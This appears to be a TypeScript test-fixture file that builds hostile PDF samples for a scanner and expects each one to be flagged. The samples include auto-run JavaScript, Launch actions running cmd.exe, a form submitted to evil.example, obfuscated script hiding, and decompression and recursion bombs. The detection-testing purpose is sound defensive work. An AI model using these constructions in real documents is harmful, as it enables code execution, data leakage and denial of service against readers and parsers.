import { deflateSync } from 'node:zlib'
import { hostile } from '../hostile-file.ts'
import { craftLockedPdf } from '../locked-pdf.ts'
import { craftPdf, packed, plainStream, stream } from '../pdf-files.ts'

const mebi = 1024 * 1024
const act = 'active-content'
const spaces = (size: number) => Buffer.alloc(size, ' ')

/** Ways to write an action that runs when the file is opened. */
const opening: readonly (readonly [string, string])[] = [
  ['a script on opening', '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'],
  ['a script in letters by number', '/OpenAction<</S/#4a#61vaScript/#4A#53(app.alert(1))>>'],
  ['a script behind a remark', '/OpenAction<</S%x\n/JavaScript%y\n/JS(1)>>'],
  ['a script by name', '/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>'],
  ['a program', '/OpenAction<</S/Launch/F(cmd.exe)>>'],
  ['a program of Windows', '/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>'],
  ['a form that is sent', '/OpenAction<</S/SubmitForm/F(http://evil.example/)>>'],
  ['data that is read in', '/OpenAction<</S/ImportData/F(\\\\\\\\evil\\\\a)>>'],
  ['a jump into an attachment', '/OpenAction<</S/GoToE/F(a.pdf)>>'],
  ['a dynamic form', '/AcroForm<</XFA 6 0 R>>'],
  ['attachments', '/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>'],
  ['an attachment tied to the catalogue', '/AF[<</Type/Filespec/F(a)/EF<</F 6 0 R>>>>]'],
  ['an attachment tied by number', '/AF[<</Type/Filespec/F(a)/EF 6 0 R>>]'],
]
const annotations: readonly (readonly [string, string])[] = [
  ['an attached file', '/Subtype/FileAttachment/FS<</F(a)/EF<</F 6 0 R>>>>'],
  ['a film', '/Subtype/Movie'],
  ['a sound', '/Subtype/Sound'],
  ['a rich medium', '/Subtype/RichMedia'],
  ['a script on a button', '/Subtype/Widget/A<</S/JavaScript/JS(1)>>'],
  ['a script on looking', '/Subtype/Widget/AA<</PV<</S/JavaScript/JS 6 0 R>>>>'],
  ['a program on a link', '/Subtype/Link/A<</S/Launch/F(a.exe)>>'],
]
const locks = [
  '<</Filter/Standard/V 5/R 6>>',
  '<</Filter/Standard/V 1/R 2>>',
  '<</Filter/Adobe.PubSec>>',
  '6 0 R',
]

export const pdf = hostile('PDF', [
  ...opening.map(([about, catalogue]) => [about, 'a.pdf', act, () => craftPdf({ catalogue })] as const),
  ...annotations.map(
    ([about, annotation]) =>
      [
        about,
        'a.pdf',
        act,
        () => craftPdf({ page: `/Annots[<</Type/Annot${annotation}/Rect[0 0 9 9]>>]` }),
      ] as const,
  ),
  ...locks.map(
    (lock) =>
      [
        `locked by ${lock}`,
        'a.pdf',
        'locked',
        () => craftPdf({ trailer: `/Encrypt ${lock}/ID[<00><00>]` }),
      ] as const,
  ),
  [
    'a script packed into a stream',
    'a.pdf',
    act,
    () => craftPdf({ objects: [packed(9, ['<</A 1>>', '<</S/JavaScript/JS(1)>>'])] }),
  ],
  [
    'a script packed behind an open string',
    'a.pdf',
    [act, 'damaged'],
    () => craftPdf({ objects: [packed(9, ['(open', '<</S/JavaScript/JS(1)>>'])] }),
  ],
  [
    'a script packed twice',
    'a.pdf',
    act,
    () => craftPdf({ objects: [twice('9 0 <</S/JavaScript/JS(1)>>')] }),
  ],
  [
    'a script in an object that lies in a stream',
    'a.pdf',
    act,
    () => craftPdf({ objects: [plainStream('', Buffer.from('9 0 obj <</S/JavaScript/JS(1)>> endobj'))] }),
  ],
  ['a script nothing leads to', 'a.pdf', act, () => craftPdf({ objects: ['<</S/JavaScript/JS(1)>>'] })],
  [
    'a script behind the word stream',
    'a.pdf',
    act,
    () => craftPdf({ objects: ['[ stream <</S/JavaScript/JS(1)>>]'] }),
  ],
  [
    'a script of an earlier version',
    'a.pdf',
    [act, 'damaged'],
    () =>
      Buffer.concat([
        craftPdf({ catalogue: opening[0]?.[1] ?? '' }),
        Buffer.from('\n'),
        craftPdf({ header: '%later\n' }),
      ]),
  ],
  // One page that says it is a hundred thousand: the library counts for itself.
  [
    'a hundred thousand pages claimed',
    'a.pdf',
    ['too-large-inside', 'damaged', 'taken'],
    () => craftPdf({ pages: '/Kids[3 0 R]/Count 100000' }),
  ],
  ['3,000 real pages', 'a.pdf', 'too-large-inside', manyPages],
  [
    'a picture of 20,000 by 20,000',
    'a.pdf',
    'too-large-inside',
    () =>
      craftPdf({
        objects: [
          stream(
            '/Type/XObject/Subtype/Image/Width 20000/Height 20000/ColorSpace/DeviceRGB/BitsPerComponent 8',
            'x',
          ),
        ],
      }),
  ],
  [
    'a page that inflates to 300 MB',
    'a.pdf',
    'too-large-inside',
    () => craftPdf({ content: spaces(300 * mebi) }),
  ],
  ['many pages that inflate to 30 MB', 'a.pdf', 'too-large-inside', manyLarge],
  ['packed five times', 'a.pdf', ['too-large-inside', 'damaged'], () => craftPdf({ objects: [fiveTimes()] })],
  ['a table of objects that loops', 'a.pdf', ['damaged', 'taken'], () => looping()],
  ['a table of objects that is not there', 'a.pdf', 'damaged', () => craftPdf({ startxref: 5 })],
  ['a table of objects beyond the end', 'a.pdf', 'damaged', () => craftPdf({ startxref: 99_999_999 })],
  [
    'pages that contain themselves',
    'a.pdf',
    ['damaged', 'too-large-inside', 'taken'],
    () => craftPdf({ pages: '/Kids[2 0 R]/Count 5' }),
  ],
  [
    'an object that refers to itself',
    'a.pdf',
    ['damaged', 'taken'],
    () => craftPdf({ objects: ['6 0 R'], catalogue: '/Metadata 6 0 R' }),
  ],
  [
    'lists within lists',
    'a.pdf',
    ['damaged', 'too-large-inside'],
    () => craftPdf({ objects: ['['.repeat(200_000)] }),
  ],
  [
    'dictionaries without end',
    'a.pdf',
    ['damaged', 'too-large-inside'],
    () => craftPdf({ objects: Array.from({ length: 20_000 }, () => '<</A ') }),
  ],
  [
    'a string without end',
    'a.pdf',
    ['damaged', 'too-large-inside'],
    () => craftPdf({ objects: Array.from({ length: 5000 }, () => '(a') }),
  ],
  [
    'a billion objects claimed',
    'a.pdf',
    ['damaged', 'too-large-inside', 'taken'],
    () => craftPdf({ trailer: '/Size 999999999' }),
  ],
  [
    'a million references',
    'a.pdf',
    ['taken', 'damaged', 'too-large-inside'],
    () => craftPdf({ objects: [`[${'5 0 R '.repeat(1_000_000)}]`] }),
  ],
  ...(['RC4 40', 'RC4 128', 'AES 128', 'AES 256', 'AES 256 of PDF 2.0'] as const).map(
    (lock) =>
      [
        `a script packed under ${lock} without a password`,
        'a.pdf',
        act,
        () => {
          const objects = '20 0 <</S/JavaScript/JS(1)>>'
          const dictionary = `/Filter/FlateDecode/Type/ObjStm/N 1/First ${objects.indexOf('<<')}`
          return craftLockedPdf(lock, [[dictionary, deflateSync(objects)]])
        },
      ] as const,
  ),
  [
    'a stream that inflates to 300 MB under a lock',
    'a.pdf',
    'too-large-inside',
    () => craftLockedPdf('AES 128', [['/Filter/FlateDecode', deflateSync(spaces(300 * mebi), { level: 1 })]]),
  ],
  [
    'two locks',
    'a.pdf',
    'locked',
    () => craftLockedPdf('RC4 128', [], { after: '\ntrailer<</Encrypt 7 0 R>>\nstartxref\n9\n%%EOF' }),
  ],
  ['no page at all', 'a.pdf', ['damaged'], () => craftPdf({ catalogue: '/Pages 99 0 R' })],
])

function twice(objects: string): Buffer {
  const first = objects.indexOf('<<')
  const data = deflateSync(deflateSync(objects))
  return plainStream(`/Filter[/FlateDecode/FlateDecode]/Type/ObjStm/N 1/First ${first}`, data)
}

function fiveTimes(): Buffer {
  let data: Buffer = spaces(40 * mebi)
  for (let i = 0; i < 5; i++) data = deflateSync(data)
  return plainStream(`/Filter[${'/FlateDecode'.repeat(5)}]`, Buffer.concat([data]))
}

function manyLarge(): Buffer {
  const one = stream('', spaces(30 * mebi))
  return craftPdf({ objects: Array.from({ length: 20 }, () => one) })
}

function manyPages(): Buffer {
  const count = 3000
  const kids = Array.from({ length: count }, (_, at) => `${at + 6} 0 R`).join(' ')
  const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>'
  return craftPdf({
    pages: `/Kids[${kids}]/Count ${count}`,
    objects: Array.from({ length: count }, () => page),
  })
}

function looping(): Buffer {
  const plain = craftPdf()
  const at = plain.lastIndexOf('xref\n0')
  return craftPdf({ trailer: `/Prev ${at}` })
}
